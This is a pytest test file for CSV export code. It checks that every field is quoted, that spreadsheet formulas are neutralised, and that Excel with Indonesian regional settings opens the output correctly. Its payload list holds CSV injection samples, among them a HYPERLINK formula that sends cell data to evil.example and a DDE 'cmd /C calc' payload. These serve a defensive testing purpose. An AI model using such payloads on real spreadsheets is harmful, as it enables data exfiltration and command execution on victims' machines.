"""CSV exports: every field quoted, no formula however the file is split, and a `;` variant with
decimal commas that Excel with Indonesian regional settings opens directly."""

from __future__ import annotations

import csv
import datetime
import io
import os
import re
import shutil
import subprocess
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

import pytest
from openpyxl import load_workbook

from reports.exports.render import CSV_COMMA, CSV_SEMICOLON, CsvDialect, SheetSpec, csv_value, stream_csv
from surveys.textsafety import FORMULA_TRIGGERS, neutralise_csv

ATTACK = "x;=10*10;"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"klik")'
PAYLOADS = [
    ATTACK,
    HYPERLINK,
    'baik,=HYPERLINK("http://evil.example","klik"),',
    "a\t=1+1\tb",
    'ok";"=10*10',
    "saran\n@SUM(1+1)\r\n-2+3",
    "x ;  +cmd|' /C calc'!A0",
]
DIALECTS = [CSV_COMMA, CSV_SEMICOLON]
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def _csv(rows: list[list[object]], dialect: CsvDialect) -> str:
    out = io.StringIO(newline="")
    stream_csv(SheetSpec("Data", ["No", "Saran", "Nilai"], rows), out, dialect=dialect)
    return out.getvalue()


def _starts_a_formula(cell: str) -> bool:
    """What a spreadsheet would run: a trigger first, once spaces and stray quotes are gone."""
    return cell.lstrip(" \"'\t\r\n").startswith(FORMULA_TRIGGERS[:4]) and not cell.lstrip(' "\t\r\n').startswith("'")


@pytest.mark.parametrize("dialect", DIALECTS, ids=["comma", "semicolon"])
def test_every_field_is_quoted(dialect: CsvDialect) -> None:
    text = _csv([[1, payload, Decimal("3.5")] for payload in PAYLOADS], dialect)
    field = r'"(?:[^"]|"")*"'
    record = f"{field}(?:{re.escape(dialect.delimiter)}{field})*\r\n"
    assert re.fullmatch(f"(?:{record})+", text), text


@pytest.mark.parametrize("dialect", DIALECTS, ids=["comma", "semicolon"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_reads_back_as_one_inert_text_field_with_the_files_own_separator(
    dialect: CsvDialect, payload: str
) -> None:
    rows = list(csv.reader(io.StringIO(_csv([[1, payload, 2]], dialect), newline=""), delimiter=dialect.delimiter))
    assert rows[1] == ["1", neutralise_csv(payload), "2"]
    assert rows[1][1].startswith("'") or not payload.startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("dialect", DIALECTS, ids=["comma", "semicolon"])
@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["read-comma", "read-semicolon", "read-tab"])
def test_no_cell_starts_a_formula_whatever_separator_the_file_is_split_on(dialect: CsvDialect, separator: str) -> None:
    text = _csv([[number, payload, 1] for number, payload in enumerate(PAYLOADS)], dialect)
    for reading in (
        csv.reader(io.StringIO(text, newline=""), delimiter=separator),
        csv.reader(io.StringIO(text, newline=""), delimiter=separator, quoting=csv.QUOTE_NONE),
        (line.split(separator) for line in re.split(r"[\r\n]+", text)),
    ):
        cells = [cell for row in reading for cell in row]
        assert cells and not [cell for cell in cells if _starts_a_formula(cell)]


def test_the_guard_changes_nothing_in_ordinary_text() -> None:
    for text in ["Pelayanan baik, cepat; ramah", "Antrean 3-4 jam", "email a@b.id", "100% puas", ""]:
        assert neutralise_csv(text) == text


def test_the_semicolon_variant_writes_decimal_commas_and_the_comma_variant_decimal_points() -> None:
    values = [Decimal("87.50"), 3.25, Fraction(1, 4), 7, -2, True, datetime.date(2026, 3, 1)]
    assert [csv_value(value, CSV_SEMICOLON) for value in values] == [
        "87,50",
        "3,25",
        "0,25",
        "7",
        "-2",
        "1",
        "2026-03-01",
    ]
    assert [csv_value(value, CSV_COMMA) for value in values][:3] == ["87.50", "3.25", "0.25"]


def _libreoffice_cells(files: dict[str, str], separator: str, tmp_path: Path) -> dict[str, list[tuple[object, str]]]:
    """Open each CSV (UTF-8 with BOM) in LibreOffice Calc as Indonesian Excel would (the given
    separator, decimal comma, formulas evaluated) and return every cell's value and type."""
    if SOFFICE is None:
        if os.environ.get("REQUIRE_LIBREOFFICE"):
            pytest.fail("LibreOffice is required (REQUIRE_LIBREOFFICE is set) but soffice is missing")
        pytest.skip("LibreOffice (soffice) is not installed; scripts/system-deps.sh installs libreoffice-calc")
    source, target = tmp_path / "in", tmp_path / "out"
    source.mkdir()
    for name, text in files.items():
        (source / f"{name}.csv").write_text(text, encoding="utf-8-sig", newline="")
    # CSV filter: separator, '"' quotes, UTF-8 (76), from line 1, standard cells, Indonesian
    # (1057), quoted fields not forced to text, special numbers detected, ..., evaluate formulas.
    options = f"CSV:{ord(separator)},34,76,1,,1057,false,true,false,false,false,-1,true"
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--headless",
            "--calc",
            f"--infilter={options}",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(target),
            *(str(source / f"{name}.csv") for name in files),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    cells: dict[str, list[tuple[object, str]]] = {}
    for name in files:
        formulas = load_workbook(target / f"{name}.xlsx").active
        values = load_workbook(target / f"{name}.xlsx", data_only=True).active
        assert formulas is not None and values is not None
        cells[name] = [
            (shown.value, kept.data_type)
            for kept_row, shown_row in zip(formulas.iter_rows(), values.iter_rows(), strict=True)
            for kept, shown in zip(kept_row, shown_row, strict=True)
        ]
    return cells


@pytest.mark.slow
@pytest.mark.parametrize("separator", [";", ","], ids=["opened-with-semicolon", "opened-with-comma"])
def test_libreoffice_computes_nothing_from_either_csv(tmp_path: Path, separator: str) -> None:
    rows: list[list[object]] = [[number, payload, Decimal("3.5")] for number, payload in enumerate(PAYLOADS)]
    unguarded = io.StringIO(newline="")
    csv.writer(unguarded, delimiter=separator).writerows(rows)  # what a plain csv.writer gives
    cells = _libreoffice_cells(
        {"semicolon": _csv(rows, CSV_SEMICOLON), "comma": _csv(rows, CSV_COMMA), "unguarded": unguarded.getvalue()},
        separator,
        tmp_path,
    )
    assert any(kind == "f" for _value, kind in cells["unguarded"])  # the check can see a live formula
    for name in ("semicolon", "comma"):
        assert not [cell for cell in cells[name] if cell[1] == "f"], name
        shown = [value for value, _kind in cells[name]]
        assert 100 not in shown and "klik" not in shown, name
    if separator == ";":  # the file made for it: one text cell per payload, numbers with decimal commas
        shown = [value for value, _kind in cells["semicolon"]]
        assert neutralise_csv(ATTACK) in shown and neutralise_csv(HYPERLINK) in shown
        assert shown.count(3.5) == len(PAYLOADS)
